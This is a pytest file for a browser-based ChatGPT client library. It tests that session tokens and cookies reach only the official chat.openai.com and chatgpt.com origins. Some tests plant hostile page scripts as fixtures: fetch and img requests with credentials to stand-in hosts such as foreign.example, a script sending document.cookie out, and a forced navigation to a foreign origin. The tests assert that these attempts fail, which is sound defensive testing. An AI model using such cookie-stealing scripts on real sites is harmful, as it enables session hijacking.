"""Secrets are sent only to the API's origin, which may move between the site's two official origins."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from chatgpt_browser import APIConnectionError, ChatGPTAPI, OriginError
from chatgpt_browser.testing import Answer, FakeChatGPT, Gate, Reply
from tests.support.foreign_site import foreign_site
from tests.support.scripted_site import base_urls, can_send, posts_of

if TYPE_CHECKING:
    from collections.abc import Mapping

    from chatgpt_browser.testing import RecordedRequest
    from tests.support.client_fixtures import Connect, Serve
    from tests.support.foreign_site import ForeignSite

OLD, NEW = "https://chat.openai.com", "https://chatgpt.com"
COOKIE = "__Secure-next-auth.session-token"


def host_map_options(hosts: Mapping[str, FakeChatGPT | ForeignSite]) -> dict[str, Any]:
    """Return options for a browser that resolves these hosts to fake servers, and resolves no other host."""
    rules = [f"MAP {host} 127.0.0.1:{server.port}" for host, server in hosts.items()]
    return {
        "browser_args": [f"--host-resolver-rules={', '.join([*rules, 'EXCLUDE 127.0.0.1'])}"],
        "ignore_https_errors": True,
    }


def received_secrets(server: FakeChatGPT) -> bool:
    return any(request.cookies or request.bearer for request in server.requests)


@pytest.mark.parametrize(("old", "new"), [(OLD, NEW), (NEW, OLD)])
def test_redirect_between_official_origins_is_followed_with_secrets(
    serve: Serve, connect: Connect, caplog: pytest.LogCaptureFixture, old: str, new: str
) -> None:
    before, after = (
        serve(tls=True, public_origin=old),
        serve(tls=True, public_origin=new, rotate_session_token=True),
    )
    after.sign_in(before.session_token)
    before.redirect_to = new
    hosts = {old.removeprefix("https://"): before, new.removeprefix("https://"): after}
    api = connect(before, **host_map_options(hosts))
    given = before.session_token

    assert can_send(api)

    assert [request.method for request in before.requests] == ["GET"]
    assert posts_of(before.requests) == []
    [post] = posts_of(after.requests)
    assert post.headers["origin"] == new
    assert given in {request.cookies.get(COOKIE) for request in after.requests}
    assert api.session_token == after.session_token != given
    assert f"the site has moved from {old} to {new}" in caplog.text

    seen = len(before.requests)
    assert can_send(api)
    assert len(before.requests) == seen, "no request is sent to the old origin"


@pytest.mark.sample(1)
@pytest.mark.parametrize(
    "move", [False, True], ids=["direct redirect", "redirect through an official origin"]
)
def test_redirect_to_another_host_raises_origin_error_without_secrets(
    serve: Serve, connect: Connect, move: bool
) -> None:
    old = serve(tls=True, public_origin=OLD)
    new = serve(tls=True, public_origin=NEW, session_token=old.session_token)
    foreign = serve(
        tls=True, public_origin="https://chatgpt.com.foreign.example", session_token=old.session_token
    )
    hosts = {"chat.openai.com": old, "chatgpt.com": new, "chatgpt.com.foreign.example": foreign}
    old.redirect_to = NEW if move else foreign.origin
    new.redirect_to = foreign.origin
    api = connect(old, **host_map_options(hosts))

    with pytest.raises(OriginError) as caught:
        api.send_message("hello")

    assert caught.value.origin == foreign.origin
    assert foreign.origin in str(caught.value)
    assert len(foreign.requests) >= 1
    assert not received_secrets(foreign)
    assert posts_of(old.requests) + posts_of(new.requests) == []

    old.redirect_to = new.redirect_to = None
    assert can_send(api)
    assert not received_secrets(foreign)


def test_api_redirect_to_another_host_is_not_followed(serve: Serve, connect: Connect) -> None:
    """An API endpoint responds with a redirect. The page must not send the access token to its target."""
    foreign = serve(tls=True, public_origin="https://foreign.example")
    server = serve(tls=True, public_origin=NEW)
    api = connect(server, **host_map_options({"chatgpt.com": server, "foreign.example": foreign}))
    assert can_send(api)
    server.redirect_to = foreign.origin

    with pytest.raises(OriginError):
        api.send_message("hello")
    assert foreign.requests == []


def test_api_redirect_to_official_origin_is_followed_after_open_replies(
    serve: Serve, connect: Connect
) -> None:
    """A reply in flight is completed at the old origin. Meanwhile, other calls raise ``OriginError``."""
    before, after, gate = serve(tls=True, public_origin=OLD), serve(tls=True, public_origin=NEW), Gate()
    after.sign_in(before.session_token)
    hosts = {"chat.openai.com": before, "chatgpt.com": after}
    api = connect(before, **host_map_options(hosts), max_concurrent_messages=2)
    before.script(Reply(pieces=["one", " two"], hold_after=1, gate=gate))
    with api.stream_message("under way") as stream:
        assert next(stream) == "one"
        before.redirect_to = NEW
        for _ in range(2):
            with pytest.raises(OriginError):
                api.send_message("hello")
        gate.open()
        assert next(stream) == " two"
    assert can_send(api)
    assert posts_of(after.requests)[-1].status == 200


def test_script_navigation_to_another_host_raises_origin_error(serve: Serve, connect: Connect) -> None:
    foreign = serve(tls=True, public_origin="https://foreign.example")
    server = serve(tls=True, public_origin=NEW)
    script = f'<script>location = "{foreign.origin}/"</script>'
    server.script_path("/api/auth/session", Answer(403, script, [("cf-mitigated", "challenge")]))
    api = connect(server, **host_map_options({"chatgpt.com": server, "foreign.example": foreign}))

    with pytest.raises(OriginError) as caught:
        api.send_message("hello")
    assert caught.value.origin == foreign.origin
    assert foreign.requests
    assert not received_secrets(foreign)


def test_session_cookie_is_sent_to_the_api_host_only(serve: Serve, connect: Connect) -> None:
    """The page sends no cookie to another host or a subdomain, and scripts cannot read it."""
    names = ("sub.chatgpt.com", "foreign.example")
    server = serve(tls=True, public_origin="https://chatgpt.com")
    with foreign_site() as sub, foreign_site() as foreign:
        send = "<img src=\"https://{0}/pixel\"><script>fetch('https://{0}/asked', {1})</script>"
        page = "".join(send.format(name, "{credentials: 'include', mode: 'no-cors'}") for name in names)
        script = "<script>fetch('/js?' + document.cookie)</script>"
        server.script_path("/api/auth/session", Answer(200, page + script))
        hosts: dict[str, FakeChatGPT | ForeignSite] = {
            "chatgpt.com": server,
            names[0]: sub,
            names[1]: foreign,
        }
        assert can_send(connect(server, **host_map_options(hosts)))

        for other in (sub, foreign):
            for path in ("/pixel", "/asked"):
                headers = other.wait_for_headers(path)
                assert "cookie" not in headers and "authorization" not in headers
        assert server.wait_for_request("/js", timeout=60).query == ""


def token_of(length: int) -> str:
    return ("0123456789abcdefghijklmnopqrstuvwxyz-_." * 400)[:length]


def session_cookies(request: RecordedRequest) -> dict[str, str]:
    return {name: value for name, value in request.cookies.items() if "session-token" in name}


@pytest.mark.parametrize(
    ("tls", "length"),
    [
        pytest.param(False, 1_000, marks=pytest.mark.long),
        (True, 3_933),
        (False, 3_934),
        pytest.param(True, 12_000, marks=pytest.mark.long),
    ],
    ids=str,
)
def test_session_token_of_any_length_is_sent_complete(
    serve: Serve, connect: Connect, tls: bool, length: int
) -> None:
    server = serve(tls=tls, session_token=token_of(length))
    api = connect(server, ignore_https_errors=tls)
    assert can_send(api)

    family = COOKIE if tls else COOKIE.removeprefix("__Secure-")
    names = [family] if length <= 3_933 else [f"{family}.{n}" for n in range(-(-length // 3_933))]
    for request in server.requests:
        cookies = session_cookies(request)
        assert list(cookies) == names
        assert "".join(cookies.values()) == token_of(length)
        assert token_of(length) not in str(request.headers.get("authorization"))
    assert api.get_is_authenticated()
    assert api.session_token == token_of(length)


def test_shorter_rotated_session_token_leaves_no_stale_cookie(serve: Serve, connect: Connect) -> None:
    """The token is stored in four cookies, then one, then three, and so on. The server joins all cookies that it receives."""
    lengths = [100, 9_000, 3_933, 3_934, 500]
    server = serve(session_token=token_of(12_000), rotate_session_token=[token_of(n) for n in lengths])
    api = connect(server, access_token_ttl=0)
    assert api.session_token == token_of(12_000)
    for _ in lengths:  # one more than necessary, because the page's visit rotates the token too
        assert api.get_is_authenticated()

    assert api.session_token == server.session_token == token_of(500)
    assert can_send(api)
    assert session_cookies(posts_of(server.requests)[-1]) == {COOKIE.removeprefix("__Secure-"): token_of(500)}


def test_http_base_url_of_public_host_raises_value_error(serve: Serve) -> None:
    url = "http://chat.example"
    with pytest.raises(ValueError, match="must be https"):
        ChatGPTAPI("token", api_base_url=f"{url}/api", backend_api_base_url=f"{url}/backend-api")


def test_untrusted_certificate_raises_without_retry(serve: Serve, caplog: pytest.LogCaptureFixture) -> None:
    """Neither a retry nor a new browser could succeed."""
    caplog.set_level("INFO", "chatgpt_browser")
    server = serve(tls=True)
    with ChatGPTAPI(server.session_token, retries=2, **base_urls(server)) as api:
        with pytest.raises(APIConnectionError, match="ERR_CERT_AUTHORITY_INVALID") as caught:
            api.ensure_auth()

    assert caught.value.permanent
    assert "trusts the authority" in str(caught.value)
    assert "ignore_https_errors=True" in str(caught.value)
    assert server.requests == []
    assert caplog.text.count("browser up") == 1
    assert "trying again" not in caplog.text
